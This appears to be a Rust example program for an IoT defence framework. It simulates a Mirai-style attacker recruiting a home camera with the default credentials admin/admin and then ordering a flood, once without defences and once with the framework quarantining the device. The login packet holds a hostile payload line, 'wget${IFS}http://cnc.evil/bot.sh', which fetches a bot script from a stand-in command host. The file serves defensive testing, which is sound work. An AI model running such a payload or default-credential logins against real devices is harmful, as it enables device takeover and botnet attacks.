//! The headline cross-layer story, end to end: a Mirai-style attacker
//! recruits a weak camera through the gateway; the XLF Core fuses DPI,
//! behavioural, and device-attestation evidence and quarantines the bot
//! before the flood order lands. Run the same attack with XLF off to
//! watch the home fall.
//!
//! ```sh
//! cargo run --example botnet_takedown
//! ```

use xlf::core::alerts::Severity;
use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
use xlf::device::{SensorKind, VulnSet, Vulnerability};
use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};

/// The WAN attacker: recruit at t=180 s, order the flood at t=200 s.
struct Attacker {
    gateway: NodeId,
    victim: NodeId,
}

impl Node for Attacker {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(Duration::from_secs(180), 1);
        ctx.set_timer(Duration::from_secs(200), 2);
    }
    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        match tag {
            1 => {
                println!("[t=180s] attacker: trying default credentials on cam (C&C bootstrap in payload)");
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
            2 => {
                println!("[t=200s] attacker: ordering the flood");
                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
                    .with_meta("device", "cam")
                    .with_meta("target", self.victim.raw().to_string())
                    .with_meta("count", "500");
                ctx.send(self.gateway, order);
            }
            _ => {}
        }
    }
}

struct Victim {
    hits: u64,
}
impl Node for Victim {
    fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
        if packet.kind == "ddos" {
            self.hits += 1;
        }
    }
}

/// What one run ends with.
struct Outcome {
    cam_compromised: bool,
    quarantined: bool,
    flood_hits: u64,
}

fn run(config: XlfConfig, label: &str) -> Outcome {
    println!("\n=== {label} ===");
    let devices = [
        HomeDevice::new("thermo", SensorKind::Temperature),
        HomeDevice::new("cam", SensorKind::Camera)
            .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword])),
    ];
    let mut home = XlfHome::build(7, config, &devices);
    let victim = home.net.add_node(Box::new(Victim { hits: 0 }));
    home.net
        .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
    let attacker = home.net.add_node(Box::new(Attacker {
        gateway: home.gateway,
        victim,
    }));
    home.net
        .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));

    home.net.run_until(SimTime::from_secs(420));

    let core = home.core.borrow();
    let cam_compromised = home.device_ref("cam").is_compromised();
    let quarantined = home.gateway_ref().nac.is_quarantined("cam");
    let flood_hits = home
        .net
        .node_as::<Victim>(victim)
        .map(|v| v.hits)
        .unwrap_or(0);

    println!("camera compromised : {cam_compromised}");
    println!("camera quarantined : {quarantined}");
    println!("flood packets that reached the victim: {flood_hits}");
    println!("evidence records   : {}", core.store.len());
    for alert in core.alerts.at_least(Severity::Warning) {
        println!(
            "alert [{:?}] {} score={:.2} — {}",
            alert.severity, alert.device, alert.score, alert.explanation
        );
    }
    Outcome {
        cam_compromised,
        quarantined,
        flood_hits,
    }
}

fn main() {
    // The example doubles as an end-to-end check: a different outcome
    // exits non-zero.
    let undefended = run(XlfConfig::off(), "UNDEFENDED home (XLF off)");
    assert!(
        undefended.cam_compromised && !undefended.quarantined,
        "undefended: the camera must fall and stay connected"
    );
    assert_eq!(
        undefended.flood_hits, 500,
        "undefended: the whole flood lands"
    );
    let defended = run(XlfConfig::full(), "home under FULL XLF");
    assert!(
        defended.quarantined,
        "full XLF: the camera must be quarantined"
    );
    assert_eq!(defended.flood_hits, 0, "full XLF: no flood packet escapes");
    println!(
        "\nThe undefended run ends with a compromised camera flooding the\n\
         victim; under XLF the recruitment is seen by three layers at once\n\
         and the camera is isolated before the flood escapes the home."
    );
}
